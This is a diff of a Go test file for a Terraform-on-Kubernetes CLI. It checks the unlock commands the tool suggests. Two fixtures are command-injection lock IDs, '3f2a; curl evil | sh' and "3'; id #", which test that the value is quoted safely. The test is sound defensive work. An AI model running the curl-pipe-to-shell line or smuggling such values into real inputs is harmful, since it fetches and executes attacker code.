@@ -46,10 +46,10 @@ func TestNextSteps(t *testing.T) {
 		"the holder names its lock: it is a word of the command": {stackThat(func(t *infrav1.Terraform) { t.Status.Lock.Pending = "3f2a; curl evil | sh" }),
 			[]string{"yuba force-unlock vpc '3f2a; curl evil | sh'    (only if the lock holder is gone)"}},
 		"a lock of a backend of its own is a word, too": {stackThat(func(t *infrav1.Terraform) { t.Spec.Cloud, t.Status.Lock.Pending = &infrav1.CloudSpec{}, "3'; id #" }),
-			[]string{`yuba kubectl -n team patch tf vpc --type=merge -p '{"spec":{"tfstate":{"forceUnlock":"yes","lockIdentifier":"3'\''; id #"}}}'    (only if the lock holder is gone)`}},
+			[]string{`yuba force-unlock vpc '3'\''; id #'    (only if the lock holder is gone)`}},
 		"locked in a backend of its own: have it unlocked, carefully": {stackThat(func(t *infrav1.Terraform) {
 			t.Spec.Cloud, t.Status.Lock.Pending = &infrav1.CloudSpec{}, "3f2a"
-		}), []string{`yuba kubectl -n team patch tf vpc --type=merge -p '{"spec":{"tfstate":{"forceUnlock":"yes","lockIdentifier":"3f2a"}}}'    (only if the lock holder is gone)`}},
+		}), []string{`yuba force-unlock vpc 3f2a    (only if the lock holder is gone)`}},
 		"held for work by hand: work on it": {stackThat(ready(metav1.ConditionUnknown, infrav1.ReasonBreakTheGlass, "")), []string{"yuba shell vpc"}},
 		"the state vanished: go back to a version": {stackThat(ready(metav1.ConditionFalse, infrav1.ReasonStateMissing, "")),
 			[]string{"yuba state history vpc", "yuba state rollback vpc VERSION"}},
